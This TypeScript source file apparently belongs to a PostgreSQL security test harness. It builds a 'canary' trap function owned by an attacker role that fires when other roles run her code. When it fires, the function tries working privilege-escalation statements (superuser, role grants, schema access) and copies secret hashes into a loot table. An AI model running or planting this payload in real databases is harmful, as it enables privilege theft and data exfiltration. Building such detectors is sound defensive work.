/** The attacker, and the role that writes to the same tables. Everything that she makes belongs to her. */
const ATTACKER = "mallory";

/** Roles in whose name her code may run, because they use her objects themselves. */
const INNOCENT = ["mallory", "bob"];

/**
 * The function that all of the attacker's code calls. In her own name it does nothing. In another role's name it rings:
 * a sequence counts, because no rollback undoes that; a warning tells where, because the client gets it even if the
 * statement fails; and it takes what rights it can get, which {@link ./rights.ts} finds.
 */
export const TRAP_SQL = `
create schema canary;
grant usage on schema canary to public;
create sequence canary.rung;
grant usage on sequence canary.rung to public;
create table canary.loot (hash bytea);
grant insert on canary.loot to public;
create function canary.trap(place text) returns boolean language plpgsql set search_path = pg_catalog, pg_temp as $trap$
declare
  context pg_catalog.text;
  attempt pg_catalog.text;
  once pg_catalog.text := pg_catalog.concat(pg_catalog.statement_timestamp(), ' ', place, ' ', current_user);
begin
  if current_user in (${INNOCENT.map((role) => `'${role}'`).join(", ")}) then return true; end if;
  perform pg_catalog.nextval('canary.rung');
  -- An operator may be asked for each row of a catalog.
  if pg_catalog.strpos(pg_catalog.current_setting('canary.seen', true), once) > 0 then return true; end if;
  perform pg_catalog.set_config('canary.seen', pg_catalog.concat(pg_catalog.right(pg_catalog.current_setting('canary.seen', true), 5000), once), false);
  get diagnostics context = pg_context;
  raise warning 'trap: % as % in %', place, current_user, context;
  foreach attempt in array array[
    'alter role ${ATTACKER} superuser',
    'create role thief',
    pg_catalog.format('grant %I to ${ATTACKER}', current_user),
    'grant tidemark_keeper to ${ATTACKER}',
    'grant usage on schema tidemark to ${ATTACKER}',
    'grant select on all tables in schema tidemark to ${ATTACKER}',
    'grant execute on all functions in schema tidemark to ${ATTACKER}',
    'insert into canary.loot select hash from tidemark.secret'
  ] loop
    begin
      execute attempt;
    exception when others then
      null;
    end;
  end loop;
  return true;
end $trap$;
alter function canary.trap(text) owner to ${ATTACKER};
grant execute on function canary.trap(text) to public;
`;

/** A body in PL/pgSQL that rings and returns `value`. */
export function trapBody(place: string, value = "null"): string {
  return `language plpgsql as $body$ begin perform canary.trap(${quoted(place)}); return ${value}; end $body$`;
}

/** A condition that rings and is always true. */
export function trapCondition(place: string): string {
  return `canary.trap(${quoted(place)})`;
}

/** The text of a trap's warning, on one line; undefined for all other notices. */
export function rungBy(message: string | undefined): string | undefined {
  if (!message?.startsWith("trap: ")) return undefined;
  const lines = message
    .split("\n")
    .filter((line) => !/canary\.trap|^SQL (statement|expression) "/.test(line));
  return lines.map((line) => line.replace(/pg_temp_\d+/g, "pg_temp").trim()).join(" < ");
}

function quoted(text: string): string {
  return `'${text.replaceAll("'", "''")}'`;
}
